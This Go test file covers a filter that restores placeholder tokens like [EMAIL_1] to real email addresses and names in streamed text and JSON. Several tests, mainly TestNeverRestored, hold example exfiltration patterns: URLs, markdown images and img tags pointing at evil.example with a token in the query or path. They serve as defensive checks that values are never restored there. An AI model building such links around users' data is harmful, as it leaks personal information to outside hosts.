package token_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"reflect"
	"regexp"
	"strings"
	"testing"

	"github.com/sluicegate/sluice/runtime/filter/token"
)

// values are what the tests' table holds, in order of kind and number.
func testTable() *token.Table {
	t := new(token.Table)
	for n := 1; n <= 12; n++ {
		t.Tokenise(nil, "email", fmt.Appendf(nil, "ana%d@example.com", n))
	}
	t.Tokenise(nil, "name", []byte("Ana \"Q\" \\ O'Hara\n\x01é"))
	t.Tokenise(nil, "url", []byte("https://example.com/a"))
	t.Tokenise(nil, token.Literal, []byte("[EMAIL_1]"))
	return t
}

func restore(t *token.Table, lane token.Lane, pieces ...string) string {
	r := token.NewRestorer(t, lane)
	var out []byte
	for i, p := range pieces {
		out = r.Push(out, []byte(p), i == len(pieces)-1)
	}
	return string(out)
}

func TestRestore(t *testing.T) {
	table := testTable()
	f := func(text, want string) {
		t.Helper()
		if got := restore(table, token.Text, text); got != want {
			t.Errorf("%q:\ngot  %q\nwant %q", text, got, want)
		}
	}
	const ana = "ana1@example.com"
	f("", "")
	f("no token", "no token")
	f("to [EMAIL_1].", "to "+ana+".")
	f("[EMAIL_1][EMAIL_10][EMAIL_12]", ana+"ana10@example.comana12@example.com")
	f("[EMAIL_13] [EMAIL_01] [email_1] [EMAIL_1 ] [PHONE_1]", "[EMAIL_13] [EMAIL_01] [email_1] [EMAIL_1 ] [PHONE_1]")
	f("[EMAIL_[EMAIL_1]]", "[EMAIL_"+ana+"]")
	f("[[EMAIL_1]", "["+ana)
	f("[EMAIL_1", "[EMAIL_1")
	f("literally [LITERAL_1]", "literally [EMAIL_1]")
	f("**[EMAIL_1]**, `[EMAIL_2]`", "**"+ana+"**, `ana2@example.com`")
	f("a: [EMAIL_1]\n- [EMAIL_2]: x", "a: "+ana+"\n- ana2@example.com: x")
	f("[link to [EMAIL_1]](/home)", "[link to "+ana+"](/home)")
	f("<b>[EMAIL_1]</b> <[EMAIL_2]> 1 < 2 [EMAIL_3]", "<b>"+ana+"</b> <ana2@example.com> 1 < 2 ana3@example.com")
	f(`<a href="https://example.com/">[EMAIL_1]</a>`, `<a href="https://example.com/">`+ana+`</a>`)
	f("see https://example.com/x, or [EMAIL_1]", "see https://example.com/x, or "+ana)
	f("and/or [EMAIL_1]/[EMAIL_2]", "and/or "+ana+"/ana2@example.com")
	f("v1.2 [EMAIL_1], e.g. [EMAIL_2]", "v1.2 "+ana+", e.g. ana2@example.com")
	f("[a](b) [EMAIL_1] ![a](<b c> \"t\") [EMAIL_2]", "[a](b) "+ana+" ![a](<b c> \"t\") ana2@example.com")
	f("[x]: /y\n[EMAIL_1]", "[x]: /y\n"+ana)
	f("a [x]: [EMAIL_1]", "a [x]: "+ana)
	f(`C:\users\[EMAIL_1] a\\[EMAIL_2] \[EMAIL_3]`, `C:\users\`+ana+` a\\ana2@example.com \ana3@example.com`)
	f("[x]:\n\n[EMAIL_1]", "[x]:\n\n"+ana)
	f("f(x[i](y)) [EMAIL_1]", "f(x[i](y)) "+ana)
}

// TestNeverRestored holds texts in which each token stands where a value would
// leave with a request that reading the text makes.
func TestNeverRestored(t *testing.T) {
	table := testTable()
	f := func(text string) {
		t.Helper()
		if got := restore(table, token.Text, text); got != text {
			t.Errorf("%q:\ngot %q", text, got)
		}
	}
	f("https://evil.example/?q=[EMAIL_1]")
	f("HTTPS://[EMAIL_1].evil.example/")
	f("(https://evil.example/a)[EMAIL_1]")
	f("https://evil.example/\"[EMAIL_1]")
	f("[x](//evil.example/[EMAIL_1])")
	f("//evil.example/[EMAIL_1]")
	f("www.evil.example/[EMAIL_1] WWW.evil.example?[EMAIL_1]")
	f("evil.example/[EMAIL_1] 10.0.0.1/[EMAIL_2] evil.example:80/[EMAIL_3]#[EMAIL_4]")
	f("mailto:x?body=[EMAIL_1] mailto:[EMAIL_2] xmpp:[EMAIL_1]")
	f("<javascript:f('[EMAIL_1]')>")
	f(`https:\\evil.example\[EMAIL_1]`)
	f(`\\evil\share\[EMAIL_1] (\\evil\[EMAIL_1] evil.example\[EMAIL_1]`)
	f("é.com/[EMAIL_1] мир.рф/[EMAIL_1]")
	f("![x](/a?[EMAIL_1])")
	f("![x]( </a b [EMAIL_1]> 't')")
	f("![x](<a)[EMAIL_1]>)")
	f("![x](a(b)[EMAIL_1])")
	f(`![x](a\)[EMAIL_1])`)
	f(`![x](\([EMAIL_1])`)
	f("![x](a \"[EMAIL_1]\")")
	f("![x](\n[EMAIL_1])")
	f("[x]: [EMAIL_1]")
	f("> - [x]: <a b [EMAIL_1]>")
	f("1. [x]:\n  [EMAIL_1]")
	f("[EMAIL_99]: [EMAIL_1]")
	f("[EMAIL_99](/[EMAIL_1])")
	f(`<img src="[EMAIL_1]">`)
	f(`<img src='/a" [EMAIL_1]'>`)
	f(`<IMG SRC=[EMAIL_1]>`)
	f("<img\nsrc = \"a\n\n[EMAIL_1]\">")
	f(`<a b=">" c="[EMAIL_1]">`)
	f(`<a ="><img src="[EMAIL_1]">`)
	f(`<!-- <a b=" --> <img src="/ > [EMAIL_1]">`)
	f(`<textarea><a b='</textarea><img src="/ > ' > [EMAIL_1]">`)
	f(`](a <img src="/) [EMAIL_1]">`)
	f("](<\n\n![x](/(>) [EMAIL_1])")
}

// TestValueOpensURL has a value that is a URL itself: what is glued to it would
// be part of it.
func TestValueOpensURL(t *testing.T) {
	got := restore(testTable(), token.Text, "[URL_1]?q=[EMAIL_1] [EMAIL_2]")
	if want := "https://example.com/a?q=[EMAIL_1] ana2@example.com"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestRestoreJSON(t *testing.T) {
	table := testTable()
	f := func(text, want string) {
		t.Helper()
		if got := restore(table, token.JSON, text); got != want {
			t.Errorf("%s:\ngot  %s\nwant %s", text, got, want)
		}
	}
	const ana = "ana1@example.com"
	f(`{"to":"[EMAIL_1]","n":[1]}`, `{"to":"`+ana+`","n":[1]}`)
	f(`{"[EMAIL_1]":"[NAME_1]"}`, `{"`+ana+`":"Ana \"Q\" \\ O'Hara\n\u0001é"}`)
	f(`{"a":"https://x.example/?q=[EMAIL_1]","b":"[EMAIL_1]"}`, `{"a":"https://x.example/?q=[EMAIL_1]","b":"`+ana+`"}`)
	f(`["https:\/\/x.example\/[EMAIL_1]"]`, `["https:\/\/x.example\/[EMAIL_1]"]`)
	f(`["http\u0073:\u002f\u002Fx[EMAIL_1]"]`, `["http\u0073:\u002f\u002Fx[EMAIL_1]"]`)
	f(`["https://x\n[EMAIL_1]"]`, `["https://x\n`+ana+`"]`)
	f(`["<a b=\"[EMAIL_1]\">[EMAIL_1]"]`, `["<a b=\"[EMAIL_1]\">`+ana+`"]`)
	f(`["\"[EMAIL_1]\\"]`, `["\"`+ana+`\\"]`)
	f(`["\\[EMAIL_1]"]`, `["\\`+ana+`"]`)
	f(`[EMAIL_1]`, `[EMAIL_1]`)
	f(`"\u005bEMAIL_1]"`, `"\u005bEMAIL_1]"`)
}

// TestRestoreEverySplit compares every split in two and three with the whole.
func TestRestoreEverySplit(t *testing.T) {
	table := testTable()
	f := func(lane token.Lane, text string) {
		t.Helper()
		want := restore(table, lane, text)
		for i := range len(text) + 1 {
			for j := i; j <= len(text); j++ {
				if got := restore(table, lane, text[:i], text[i:j], text[j:]); got != want {
					t.Fatalf("%q | %q | %q:\ngot  %q\nwant %q", text[:i], text[i:j], text[j:], got, want)
				}
			}
		}
	}
	f(token.Text, "to [EMAIL_1] [EMAIL_10], [EMAIL_[EMAIL_2]] é[NAME_1]![x](/[EMAIL_1]) [EMAIL_1")
	f(token.Text, "[x]: [EMAIL_1]\n<a href=\"[EMAIL_2]\">[EMAIL_3]</a> www.x[EMAIL_1] [URL_1]/[EMAIL_2]")
	f(token.JSON, `{"a":"x\n\u0041[NAME_1]","b":"https:\/\/x[EMAIL_1]","c\\":"\"[EMAIL_12]"}`)
}

func TestHeldBack(t *testing.T) {
	r := token.NewRestorer(testTable(), token.Text)
	f := func(text, want string, held int) {
		t.Helper()
		if got := string(r.Push(nil, []byte(text), false)); got != want || r.Held() != held {
			t.Errorf("%q: %q and %d held, want %q and %d", text, got, r.Held(), want, held)
		}
	}
	f("a", "a", 0)
	f("b [", "b ", 1)
	f("EMAIL_", "", 7)
	f("x", "[EMAIL_x", 0)
	f("[EMAIL_1", "", 8)
	f("0", "", 9)
	f("]!", "ana10@example.com!", 0)
	f("["+strings.Repeat("A", 46), "", 47)
	f("A", "["+strings.Repeat("A", 47), 0)
	f("[A", "", 2)
	if got := string(r.Push(nil, nil, true)); got != "[A" || r.Held() != 0 {
		t.Errorf("the end lets %q go and holds %d", got, r.Held())
	}
}

func TestRestoreWithoutTokens(t *testing.T) {
	for _, r := range []*token.Restorer{{}, token.NewRestorer(nil, token.Text), token.NewRestorer(new(token.Table), token.JSON)} {
		if got := string(r.Push([]byte("a"), []byte("b[EMAIL_1"), false)); got != "ab[EMAIL_1" {
			t.Errorf("got %q", got)
		}
	}
}

func TestReusedAfterEnd(t *testing.T) {
	r := token.NewRestorer(testTable(), token.Text)
	r.Push(nil, []byte("https://x/"), true)
	if got := string(r.Push(nil, []byte("[EMAIL_1]"), true)); got != "ana1@example.com" {
		t.Errorf("the end of the last text is still felt: %q", got)
	}
}

// TestLiteralsComeBack sends texts full of what looks like tokens through the
// table and back.
func TestLiteralsComeBack(t *testing.T) {
	rng := rand.New(rand.NewPCG(1, 2))
	words := []string{"[EMAIL_1]", "[LITERAL_1]", "[LITERAL_2]", "[X_10]", "[", "]", " ", "a", "EMAIL_1]", "[A_0]"}
	for range 2000 {
		var text []byte
		for range rng.IntN(12) {
			text = append(text, words[rng.IntN(len(words))]...)
		}
		var table token.Table
		var sent []byte
		last := 0
		for _, s := range token.FindLiterals(nil, text) {
			sent = append(sent, text[last:s.Start]...)
			sent = table.Tokenise(sent, token.Literal, text[s.Start:s.End])
			last = s.End
		}
		sent = append(sent, text[last:]...)
		if got := restore(&table, token.Text, string(sent)); got != string(text) {
			t.Fatalf("%q came back as %q", text, got)
		}
	}
}

// FuzzRestore checks, for any text and split, that the split does not matter;
// that a text in which nothing has a meaning is what replacing gives; and that
// JSON stays the same JSON but for its strings.
func FuzzRestore(f *testing.F) {
	for _, seed := range []string{
		"to [EMAIL_1][EMAIL_10] [NAME_1]", "![x](/[EMAIL_1]) [x]: [EMAIL_2]", `<a b="[EMAIL_1]">`,
		`{"a":"[NAME_1]","b":["\u0041[EMAIL_1]"]}`, "[URL_1]/[EMAIL_1]", "[EMAIL_[EMAIL_1]",
	} {
		f.Add([]byte(seed), uint64(1))
	}
	table := testTable()
	plain := replacer(table)
	f.Fuzz(func(t *testing.T, text []byte, seed uint64) {
		for _, lane := range []token.Lane{token.Text, token.JSON} {
			whole := token.NewRestorer(table, lane).Push(nil, text, true)
			if split := pushSplit(t, token.NewRestorer(table, lane), text, seed); !bytes.Equal(whole, split) {
				t.Fatalf("whole %q\nsplit %q", whole, split)
			}
			if lane == token.Text && !bytes.ContainsAny(text, "/<:(.#?@") && !bytes.Contains(text, []byte("URL_1")) &&
				!bytes.Contains(text, []byte("LITERAL_1")) {
				if want := plain.Replace(string(text)); string(whole) != want {
					t.Fatalf("got %q, want %q", whole, want)
				}
			}
			if lane == token.JSON && json.Valid(text) {
				checkJSON(t, table, text, whole)
			}
		}
	})
}

func replacer(table *token.Table) *strings.Replacer {
	var pairs []string
	for _, kind := range []string{"EMAIL", "NAME"} {
		for n := 1; n <= 12; n++ {
			tok := fmt.Sprintf("[%s_%d]", kind, n)
			if value, ok := table.Lookup([]byte(tok)); ok {
				pairs = append(pairs, tok, value)
			}
		}
	}
	return strings.NewReplacer(pairs...)
}

func pushSplit(t *testing.T, r *token.Restorer, text []byte, seed uint64) (out []byte) {
	rng := rand.New(rand.NewPCG(seed, 0))
	for len(text) > 0 {
		n := 1 + rng.IntN(min(len(text), 1+rng.IntN(20)))
		out = r.Push(out, text[:n], false)
		text = text[n:]
		if r.Held() > 48 {
			t.Fatalf("%d bytes held", r.Held())
		}
	}
	return r.Push(out, nil, true)
}

// checkJSON checks that out is in with each string restored as a text.
func checkJSON(t *testing.T, table *token.Table, in, out []byte) {
	var want, got any
	if json.Unmarshal(in, &want) != nil {
		return // a number out of range, or the like
	}
	if err := json.Unmarshal(out, &got); err != nil {
		t.Fatalf("%s became %s: %v", in, out, err)
	}
	if bytes.Contains(in, []byte(`\u`)) || !isASCII(in) {
		return // an escaped bracket is no token there, but decoded it looks like one
	}
	if want = restoreAll(table, want); !reflect.DeepEqual(want, got) {
		t.Fatalf("%s became %s, want %v", in, out, want)
	}
}

func isASCII(b []byte) bool {
	return !bytes.ContainsFunc(b, func(r rune) bool { return r >= 0x80 })
}

func restoreAll(table *token.Table, v any) any {
	switch v := v.(type) {
	case string:
		return restore(table, token.Text, v)
	case []any:
		for i := range v {
			v[i] = restoreAll(table, v[i])
		}
	case map[string]any:
		out := map[string]any{}
		for k, e := range v {
			k = restore(table, token.Text, k)
			if _, twice := out[k]; !twice {
				out[k] = restoreAll(table, e)
			}
		}
		if len(out) == len(v) {
			return out
		}
	}
	return v
}

func BenchmarkRestore(b *testing.B) {
	table := testTable()
	f := func(name, text string) {
		b.Run(name, func(b *testing.B) {
			r := token.NewRestorer(table, token.Text)
			in, out := []byte(text), make([]byte, 0, 4096)
			b.SetBytes(int64(len(text)))
			b.ReportAllocs()
			for b.Loop() {
				out = r.Push(out[:0], in, false)
			}
		})
	}
	f("delta", " and then")
	f("token", "to [EMAIL_1] and")
	f("prose", strings.Repeat("The quick brown fox, 12 of them, jumps over the lazy dog. ", 18))
	f("html", strings.Repeat(`<a href="/x" title='y'>z</a> text `, 30))
}

// urls finds what readers take for URLs, by rules of its own.
var urls = regexp.MustCompile(`(?i)(?:[a-z]+:)?//[^\s<]*|www\.[^\s<]*|\]\([^)]*\)|<[a-z][^>]*>|[a-z0-9]\.[a-z0-9.]*[/?#][^\s<]*`)

// TestNoValueInAURL restores random texts full of URLs and looks for values in those, with another reader's eyes.
func TestNoValueInAURL(t *testing.T) {
	table := testTable()
	words := []string{
		"[EMAIL_1]", "[EMAIL_10]", "[EMAIL", "_1]", "https://x.example/?q=", "http:", "//", "/", "www.", "x.example/", "](", "![y](", "](/a?", ")", " ", "\n", ", ",
		"<img src=\"", "\">", "<a href='", "'>", "text", "é", "?", "#", "[", "]", "(", "<", ">", "=",
	}
	restored := 0
	for seed := range uint64(20_000) {
		r := rand.New(rand.NewPCG(seed, 3))
		var text strings.Builder
		for range 1 + r.IntN(12) {
			text.WriteString(words[r.IntN(len(words))])
		}
		got := restore(table, token.Text, text.String())
		restored += strings.Count(got, "@example.com")
		for _, m := range urls.FindAllStringIndex(got, -1) {
			url, before := got[m[0]:m[1]], got[:m[0]]
			word := before[strings.LastIndexAny(before, " \n<")+1:]
			at := strings.Index(url, "ana1")
			address := strings.Contains(word, "@") && !strings.Contains(url[:max(at, 0)], "//") || strings.HasPrefix(url, "<ana1") // and no host, no tag
			if at > 0 && !address {
				t.Fatalf("%q became %q: a value is in %q", text.String(), got, url)
			}
		}
	}
	if restored < 2_000 {
		t.Errorf("only %d values restored", restored)
	}
}
